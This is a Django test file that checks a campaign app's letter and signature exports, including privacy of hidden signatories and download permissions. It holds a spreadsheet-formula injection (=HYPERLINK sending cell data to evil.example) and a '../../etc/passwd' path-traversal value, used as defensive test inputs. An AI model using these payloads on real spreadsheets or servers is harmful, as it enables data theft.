"""A campaign's downloads: the letter with its signatories (DOCX, PDF) and the signatures
(CSV, XLSX), who may get them, and what each file shows and keeps out."""

from __future__ import annotations

import csv
import gzip
import io
import os
import re

import pytest
from django.template.loader import render_to_string
from django.urls import reverse
from django.utils import timezone, translation

from sauti.accounts.models import Membership, Organisation
from sauti.campaigns import exports
from sauti.campaigns.models import Addressee, Campaign, Letter, Signature
from sauti.reports import fonts
from sauti.reports.pdf import FONTS, PdfUnavailable

from ..conftest import client_for
from ..factories import MembershipFactory, OrganisationFactory
from ..permissions import LOGIN, ROLES, assert_outcome, user_for

pytestmark = pytest.mark.django_db

W = "{http://schemas.openxmlformats.org/wordprocessingml/2006/main}"
EXPORTS = ["letter_docx", "letter_pdf", "signatures_csv", "signatures_xlsx"]
INJECTION = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'


def signature(campaign, **fields):
    """A signature that counts unless ``fields`` say otherwise."""
    values = {
        "kind": Signature.Kind.ORGANISATION,
        "name": "Someone",
        "email": f"s{Signature.objects.count()}@example.org",
        "confirmed_at": timezone.now(),
        "country_id": "KE",
    }
    values.update(fields)
    return Signature.objects.create(campaign=campaign, **values)


@pytest.fixture
def signed(campaign):
    """Two addressees; who signed and how, to see what each file shows."""
    Addressee.objects.create(campaign=campaign, name="Dr Achieng", title="Minister")
    Addressee.objects.create(campaign=campaign, name="Mr Otieno", title="Principal Secretary")
    signature(
        campaign,
        organisation_name="Kisumu Patients Network",
        name="Grace Akinyi",
        role="Chair",
        show_name=True,
    )
    signature(
        campaign,
        organisation_name="Nyanza Clinics Alliance",
        name="Hidden Contact",
        role="Secret Role",
        show_name=False,
        email="hidden@example.org",
    )
    signature(
        campaign,
        kind=Signature.Kind.INDIVIDUAL,
        name="Amina Odhiambo",
        role="Nurse",
        show_name=True,
        country_id="SN",
    )
    signature(
        campaign,
        kind=Signature.Kind.INDIVIDUAL,
        name="Private Person",
        show_name=False,
        email="private@example.org",
    )
    signature(campaign, organisation_name="Unconfirmed Org", confirmed_at=None)
    signature(
        campaign,
        organisation_name="Removed Org",
        removed_at=timezone.now(),
        removed_reason="Signed by mistake",
    )
    signature(campaign, organisation_name=INJECTION, show_name=True)
    return campaign


def url(name, campaign, **query):
    address = reverse(f"campaigns:{name}", args=[campaign.pk])
    if query:
        address += "?" + "&".join(f"{key}={value}" for key, value in query.items())
    return address


def get(user, name, campaign, **query):
    return client_for(user).get(url(name, campaign, **query))


def docx_of(response):
    from docx import Document

    assert response.status_code == 200, response.content[:300]
    assert response["Content-Type"] == exports.CONTENT_TYPES["docx"]
    return Document(io.BytesIO(response.content))


def all_text(document) -> str:
    """Every text of the document: paragraphs, tables, and anything else in the XML."""
    return "".join(node.text or "" for node in document.element.body.iter(f"{W}t"))


def pdf_text(content: bytes) -> str:
    from pypdf import PdfReader

    return "\n".join(page.extract_text() for page in PdfReader(io.BytesIO(content)).pages)


@pytest.fixture
def needs_pdf():
    def check(language: str = "en") -> None:
        try:
            import weasyprint  # noqa: F401
        except (ImportError, OSError) as error:
            reason = f"WeasyPrint cannot run here: {error}"
        else:
            missing = fonts.missing_for(language)
            reason = f"fonts missing: {', '.join(missing)}" if missing else ""
        if reason:
            if os.environ.get("CI"):
                pytest.fail(f"CI must be able to print PDFs: {reason}")
            pytest.skip(reason)

    return check


# --- The letter as DOCX ------------------------------------------------------------------


def test_the_docx_has_a_copy_per_addressee_then_the_public_signatory_list(editor, signed):
    document = docx_of(get(editor, "letter_docx", signed, language="en"))
    paragraphs = [paragraph.text for paragraph in document.paragraphs]
    # One copy per addressee, a page break between them and before the annex.
    assert paragraphs.count("Dear Minister,") == 2
    assert paragraphs.count("Social participation") == 2
    assert paragraphs.count("Kisumu Health Rights Forum") == 4  # letterhead and sender, twice
    breaks = [br for br in document.element.body.iter(f"{W}br") if br.get(f"{W}type") == "page"]
    assert len(breaks) == 2
    # The markup: emphasis in italics, a list as bullets.
    minister = next(run for run in document.paragraphs[2].runs if run.text == "Minister")
    assert minister.italic is True
    bullets = [p.text for p in document.paragraphs if p.style.name == "List Bullet"]
    assert bullets == ["a legal basis", "a budget line"] * 2
    assert "Annex: signatories" in paragraphs
    assert "5 signatories (1 person signed without showing their name.)" in paragraphs

    (table,) = document.tables
    rows = [[cell.text for cell in row.cells] for row in table.rows]
    assert rows[0] == ["Organisation or person", "Country", "Signed as", "Name", "Role"]
    kenya, senegal = "Kenya", "Senegal"
    organisation, individual = "On behalf of an organisation", "As an individual"
    # Grouped by country and kind, as on the public page.
    assert rows[1:] == [
        [INJECTION, kenya, organisation, "Someone", ""],  # a Word table runs no formula
        ["Kisumu Patients Network", kenya, organisation, "Grace Akinyi", "Chair"],
        ["Nyanza Clinics Alliance", kenya, organisation, "", ""],
        ["Amina Odhiambo", senegal, individual, "", "Nurse"],
    ]
    text = all_text(document)
    # The document goes to the addressees: no hidden name, no email, nothing that does not count.
    for private in (
        "Hidden Contact",
        "Secret Role",
        "Private Person",
        "@example.org",
        "Unconfirmed Org",
        "Removed Org",
    ):
        assert private not in text


def test_the_docx_names_each_addressee_in_their_copy(editor, campaign):
    Letter.objects.filter(campaign=campaign, language="en").update(
        body="Dear {{ addressee_title }} {{ addressee_name }},\n\nWe write to you."
    )
    Addressee.objects.create(campaign=campaign, name="Achieng", title="Minister")
    Addressee.objects.create(campaign=campaign, name="Otieno", title="Secretary")
    document = docx_of(get(editor, "letter_docx", campaign, language="en"))
    paragraphs = [paragraph.text for paragraph in document.paragraphs]
    assert "Dear Minister Achieng," in paragraphs
    assert "Dear Secretary Otieno," in paragraphs
    assert "No signatory yet." in paragraphs
    assert not document.tables


def test_the_docx_without_addressee_has_one_copy(editor, campaign):
    document = docx_of(get(editor, "letter_docx", campaign, language="en"))
    assert [p.text for p in document.paragraphs].count("Dear Minister,") == 1


def test_the_document_speaks_the_letters_language_not_the_readers(editor, signed, catalogue):
    catalogue("fr", {"Annex: signatories": "Annexe : signataires", "Country": "Pays"})
    response = get(editor, "letter_docx", signed, language="fr")  # an English reader
    assert response["Content-Disposition"] == (
        f'attachment; filename="campaign-{signed.pk}-letter-fr.docx"'
    )
    document = docx_of(response)
    paragraphs = [paragraph.text for paragraph in document.paragraphs]
    assert "Madame la Ministre," in paragraphs
    assert "Annexe : signataires" in paragraphs
    assert document.tables[0].rows[0].cells[1].text == "Pays"
    assert document.tables[0].rows[1].cells[1].text == "Kenya"  # the country in French too
    assert "Dear Minister," not in paragraphs


def test_an_arabic_letter_is_right_to_left_in_the_docx(editor, campaign):
    Letter.objects.create(
        campaign=campaign, language="ar", subject="المشاركة الاجتماعية", body="معالي *الوزيرة*،"
    )
    signature(campaign, organisation_name="شبكة المرضى", show_name=True, name="ليلى")
    document = docx_of(get(editor, "letter_docx", campaign, language="ar"))
    paragraph = next(p for p in document.paragraphs if p.text == "معالي الوزيرة،")
    assert paragraph._p.pPr.find(f"{W}bidi") is not None
    assert all(run._r.rPr.find(f"{W}rtl") is not None for run in paragraph.runs)
    # Right-aligned by its direction: no explicit alignment that Word would read as "end".
    assert paragraph._p.pPr.find(f"{W}jc") is None
    assert document.sections[0]._sectPr.find(f"{W}bidi") is not None
    table = document.tables[0]
    assert table._tbl.tblPr.find(f"{W}bidiVisual") is not None
    assert table.rows[1].cells[0].text == "شبكة المرضى"
    cell_paragraph = table.rows[1].cells[0].paragraphs[0]
    assert cell_paragraph._p.pPr.find(f"{W}bidi") is not None
    # The complex-script font and the Arabic language for Word's spelling.
    fonts_ = document.styles["Normal"].element.rPr.find(f"{W}rFonts")
    assert fonts_.get(f"{W}cs") == "Noto Naskh Arabic"
    language = document.styles["Normal"].element.rPr.find(f"{W}lang")
    assert language.get(f"{W}val") == "ar-SA"


def test_a_chinese_letter_names_an_east_asian_font_in_the_docx(editor, campaign):
    Letter.objects.create(
        campaign=campaign,
        language="zh-hans",
        subject="社会参与",
        body="尊敬的*部长*：\n\n- 法律依据",
    )
    document = docx_of(get(editor, "letter_docx", campaign, language="zh-hans"))
    paragraph = next(p for p in document.paragraphs if p.text == "尊敬的部长：")
    for run in paragraph.runs:
        run_fonts = run._r.rPr.find(f"{W}rFonts")
        assert run_fonts.get(f"{W}eastAsia") == "Noto Sans CJK SC"
        assert run_fonts.get(f"{W}hint") == "eastAsia"
    assert paragraph._p.pPr is None or paragraph._p.pPr.find(f"{W}bidi") is None
    assert document.core_properties.language == "zh-CN"


# --- The letter as PDF -------------------------------------------------------------------


def test_the_pdf_has_the_letter_and_the_public_signatory_list(editor, signed, needs_pdf):
    needs_pdf("fr")
    response = get(editor, "letter_pdf", signed, language="fr")
    assert response.status_code == 200
    assert response["Content-Type"] == "application/pdf"
    assert response["Cache-Control"] == "private, no-store"
    assert response["Content-Disposition"] == (
        f'attachment; filename="campaign-{signed.pk}-letter-fr.pdf"'
    )
    text = pdf_text(response.content)
    assert text.count("Madame la Ministre,") == 2  # one copy per addressee
    for shown in ("Kisumu Patients Network", "Grace Akinyi", "Nyanza Clinics Alliance", "Amina"):
        assert shown in text
    for private in ("Hidden Contact", "Secret Role", "Private Person", "@example.org", "Removed"):
        assert private not in text


def test_a_long_list_is_printed_as_running_text_grouped_by_country(
    editor, signed, needs_pdf, monkeypatch
):
    needs_pdf("en")
    monkeypatch.setattr(exports, "PDF_TABLE_LIMIT", 2)
    text = pdf_text(get(editor, "letter_pdf", signed, language="en").content)
    flat = " ".join(text.replace("\u2068", "").replace("\u2069", "").split())
    assert "Kenya · On behalf of an organisation" in flat
    assert "Kisumu Patients Network (Grace Akinyi, Chair)" in flat
    assert "Senegal · As an individual" in flat
    assert "Amina Odhiambo (Nurse)" in flat
    assert "Hidden Contact" not in flat
    assert "Private Person" not in flat


def test_an_arabic_pdf_is_right_to_left_with_arabic_text(editor, campaign, needs_pdf):
    needs_pdf("ar")
    letter = Letter.objects.create(
        campaign=campaign, language="ar", subject="المشاركة الاجتماعية", body="معالي *الوزيرة*،"
    )
    signature(campaign, organisation_name="شبكة المرضى")
    content = exports.letter_content(campaign, "ar")
    html = exports.letter_html(content)
    assert '<html lang="ar" dir="rtl">' in html
    text = pdf_text(get(editor, "letter_pdf", campaign, language="ar").content)
    assert letter.subject in text
    assert "الوزيرة" in text
    assert "شبكة المرضى" in text


def test_a_chinese_pdf_has_chinese_text(editor, campaign, needs_pdf):
    needs_pdf("zh-hans")
    Letter.objects.create(
        campaign=campaign,
        language="zh-hans",
        subject="社会参与",
        body="尊敬的*部长*：\n\n我们要求法律依据。",
    )
    html = exports.letter_html(exports.letter_content(campaign, "zh-hans"))
    assert '<html lang="zh-hans" dir="ltr">' in html
    assert "Noto Sans CJK SC" in html
    text = pdf_text(get(editor, "letter_pdf", campaign, language="zh-hans").content)
    assert "社会参与" in text
    assert "我们要求法律依据。" in text


def test_the_pdf_fetches_nothing_from_a_network(campaign):
    """No external resource in the page, and the fetcher refuses http(s) if one slipped in."""
    html = exports.letter_html(exports.letter_content(campaign, "en"))
    assert not re.search(r"(src|href)=|url\(|@import", html)
    weasyprint = pytest.importorskip("weasyprint")
    with pytest.raises(ValueError, match="refused"):
        exports.local_only_fetcher(weasyprint).fetch("https://fonts.example/noto.woff2")


def test_without_pdf_tools_the_organiser_gets_a_message_not_an_error(editor, campaign, monkeypatch):
    def unavailable(campaign, language):
        raise PdfUnavailable(FONTS, "Noto Sans CJK SC (Debian packages: fonts-noto-cjk)")

    monkeypatch.setattr(exports, "letter_pdf", unavailable)
    response = client_for(editor).get(url("letter_pdf", campaign), follow=True)
    assert response.redirect_chain == [(campaign.get_absolute_url(), 302)]
    page = response.content.decode()
    assert "the fonts for this language are missing" in page
    assert "fonts-noto-cjk" not in page


# --- Choosing the letter ------------------------------------------------------------------


@pytest.mark.parametrize("language", ["xx", "../../etc/passwd", "", "zh-hans"])
def test_an_unknown_language_gives_the_first_letter(editor, campaign, language):
    response = get(editor, "letter_docx", campaign, language=language)
    assert response.status_code == 200
    assert response["Content-Disposition"] == (
        f'attachment; filename="campaign-{campaign.pk}-letter-en.docx"'
    )
    assert "Dear Minister," in [p.text for p in docx_of(response).paragraphs]


def test_without_language_the_readers_language_is_chosen(editor, campaign):
    with translation.override("fr"):
        address = url("letter_docx", campaign)
    response = client_for(editor).get(address)
    assert "Madame la Ministre," in [p.text for p in docx_of(response).paragraphs]


@pytest.mark.parametrize("name", ["letter_docx", "letter_pdf"])
def test_a_campaign_without_letter_says_so(editor, coalition, name):
    campaign = Campaign.objects.create(coalition=coalition, title="Empty", state="open")
    response = client_for(editor).get(url(name, campaign, language="fr"), follow=True)
    assert response.redirect_chain == [(campaign.get_absolute_url(), 302)]
    assert "This campaign has no letter yet" in response.content.decode()


def test_a_campaign_without_letter_still_exports_its_signatures(editor, coalition):
    campaign = Campaign.objects.create(coalition=coalition, title="Empty", state="open")
    signature(campaign, organisation_name="Early Org")
    assert "Early Org" in get(editor, "signatures_csv", campaign).content.decode("utf-8-sig")


# --- Signatures as CSV and XLSX -----------------------------------------------------------


def csv_rows(response) -> list[list[str]]:
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response.content.startswith(b"\xef\xbb\xbf")  # the BOM Excel needs for UTF-8
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


def test_the_csv_has_every_signature_with_what_the_public_does_not_see(editor, signed):
    response = get(editor, "signatures_csv", signed)
    assert response["Content-Disposition"] == (
        f'attachment; filename="campaign-{signed.pk}-signatures.csv"'
    )
    assert response["Cache-Control"] == "private, no-store"
    header, *rows = csv_rows(response)
    assert header == [
        "Signed as",
        "Organisation",
        "Kind of organisation",
        "Registered on Sauti",
        "Name",
        "Role",
        "Email address",
        "Country",
        "Shows their name",
        "Confirmed at (UTC)",
        "Approved by the organisation at (UTC)",
        "Held for review",
        "Removed at (UTC)",
        "Reason for removal",
        "Signed at (UTC)",
        "Language",
    ]
    assert len(rows) == Signature.objects.filter(campaign=signed).count() == 7
    by_name = {row[1] or row[4]: dict(zip(header, row, strict=True)) for row in rows}
    hidden = by_name["Nyanza Clinics Alliance"]
    assert hidden["Name"] == "Hidden Contact"
    assert hidden["Role"] == "Secret Role"
    assert hidden["Email address"] == "hidden@example.org"
    assert hidden["Shows their name"] == "no"
    assert hidden["Registered on Sauti"] == "no"
    assert hidden["Country"] == "Kenya"
    assert re.fullmatch(r"\d{4}-\d\d-\d\d \d\d:\d\d:\d\d", hidden["Confirmed at (UTC)"])
    assert by_name["Private Person"]["Signed as"] == "As an individual"
    assert by_name["Unconfirmed Org"]["Confirmed at (UTC)"] == ""
    assert by_name["Removed Org"]["Reason for removal"] == "Signed by mistake"
    # A formula in a name is text, never run by the spreadsheet.
    assert "'" + INJECTION in by_name
    assert INJECTION not in by_name


def test_the_csv_headers_are_in_the_readers_language(editor, signed, catalogue):
    catalogue("fr", {"Email address": "Adresse électronique", "yes": "oui", "no": "non"})
    with translation.override("fr"):
        address = url("signatures_csv", signed)
    header, *rows = csv_rows(client_for(editor).get(address))
    assert "Adresse électronique" in header
    assert {row[8] for row in rows} == {"oui", "non"}  # shows their name


def test_the_xlsx_has_every_signature_and_no_formula(editor, signed):
    from openpyxl import load_workbook

    response = get(editor, "signatures_xlsx", signed)
    assert response.status_code == 200
    assert response["Content-Type"] == exports.CONTENT_TYPES["xlsx"]
    assert response["Cache-Control"] == "private, no-store"
    assert response["Content-Disposition"] == (
        f'attachment; filename="campaign-{signed.pk}-signatures.xlsx"'
    )
    sheet = load_workbook(io.BytesIO(response.content)).active
    rows = list(sheet.iter_rows())
    header = [cell.value for cell in rows[0]]
    assert header[6] == "Email address"
    values = [[cell.value for cell in row] for row in rows[1:]]
    assert len(values) == 7
    hidden = next(row for row in values if row[1] == "Nyanza Clinics Alliance")
    assert hidden[4] == "Hidden Contact"
    assert hidden[6] == "hidden@example.org"
    assert hidden[8] is False  # typed: Excel filters on it
    assert hidden[9] is not None and hidden[9].tzinfo is None  # a date, in UTC
    injected = next(row for row in rows[1:] if "HYPERLINK" in str(row[1].value))
    assert injected[1].value == "'" + INJECTION
    assert injected[1].data_type == "s"
    assert not any(cell.data_type == "f" for row in rows for cell in row)


# --- Who may download --------------------------------------------------------------------

ORGANISERS = {
    "anonymous": LOGIN,
    "outsider": 403,
    "member": 403,
    "editor": 200,
    "org_admin": 200,
    "moderator": 200,
    "site_admin": 200,
}


@pytest.fixture
def other_editor(db):
    """An editor of another coalition: no right on this one's campaign."""
    network = OrganisationFactory(kind=Organisation.Kind.NETWORK)
    return MembershipFactory(organisation=network, role=Membership.Role.EDITOR).user


@pytest.fixture
def quick_pdf(monkeypatch):
    """Permission tests need no real printing."""
    monkeypatch.setattr(exports, "letter_pdf", lambda campaign, language: b"%PDF-1.7 test")


@pytest.mark.parametrize("name", EXPORTS)
@pytest.mark.parametrize("role", ROLES)
def test_who_may_download(request, signed, quick_pdf, role, name):
    address = url(name, signed)
    response = client_for(user_for(request, role)).get(address)
    assert_outcome(response, ORGANISERS[role], address)
    if ORGANISERS[role] == 200:
        assert response["Cache-Control"] == "private, no-store"
        assert response["Content-Disposition"].startswith("attachment;")
        assert response["Content-Security-Policy"] == "sandbox; default-src 'none'"
    else:
        assert b"hidden@example.org" not in response.content


@pytest.mark.parametrize("name", EXPORTS)
def test_another_coalitions_editor_may_not_download(signed, other_editor, quick_pdf, name):
    response = client_for(other_editor).get(url(name, signed))
    assert_outcome(response, 403, url(name, signed))


DRAFT_OUTCOMES = {**ORGANISERS, "outsider": 404}


@pytest.mark.parametrize("name", EXPORTS)
@pytest.mark.parametrize("role", ROLES)
def test_a_drafts_downloads_stay_secret(request, draft, quick_pdf, role, name):
    address = url(name, draft)
    response = client_for(user_for(request, role)).get(address)
    assert_outcome(response, DRAFT_OUTCOMES[role], address)


@pytest.mark.parametrize("name", EXPORTS)
def test_a_draft_is_not_found_for_another_coalitions_editor(draft, other_editor, quick_pdf, name):
    assert client_for(other_editor).get(url(name, draft)).status_code == 404


@pytest.mark.parametrize("name", EXPORTS)
def test_an_unknown_campaign_is_not_found(editor, name):
    missing = Campaign(pk=999999)
    assert client_for(editor).get(url(name, missing)).status_code == 404


# --- The campaign page's links -------------------------------------------------------------


@pytest.mark.parametrize("role", ["editor", "org_admin", "moderator"])
def test_organisers_find_the_downloads_on_the_campaign_page(request, campaign, role):
    page = client_for(user_for(request, role)).get(campaign.get_absolute_url()).content.decode()
    for language in ("en", "fr"):
        assert f'{url("letter_docx", campaign)}?language={language}"' in page
        assert f'{url("letter_pdf", campaign)}?language={language}"' in page
    assert f'href="{url("signatures_csv", campaign)}"' in page
    assert f'href="{url("signatures_xlsx", campaign)}"' in page


@pytest.mark.parametrize("role", ["anonymous", "outsider", "member"])
def test_others_see_no_download_link(request, campaign, role):
    page = client_for(user_for(request, role)).get(campaign.get_absolute_url()).content.decode()
    for name in EXPORTS:
        assert url(name, campaign) not in page


def test_the_links_weigh_little(editor, campaign):
    """Seven letters and the two spreadsheets: a few hundred bytes on the wire."""
    for language in ("es", "pt", "ar", "ru", "zh-hans"):
        Letter.objects.create(campaign=campaign, language=language, subject="S", body="B")
    html = render_to_string(
        "campaigns/includes/detail_exports.html",
        {
            "campaign": campaign,
            "can_organise": True,
            "letters": list(campaign.letters.all()),
            "user": editor,
        },
    )
    assert html.count("<a ") == 7 * 2 + 2
    assert len(gzip.compress(html.encode())) < 800
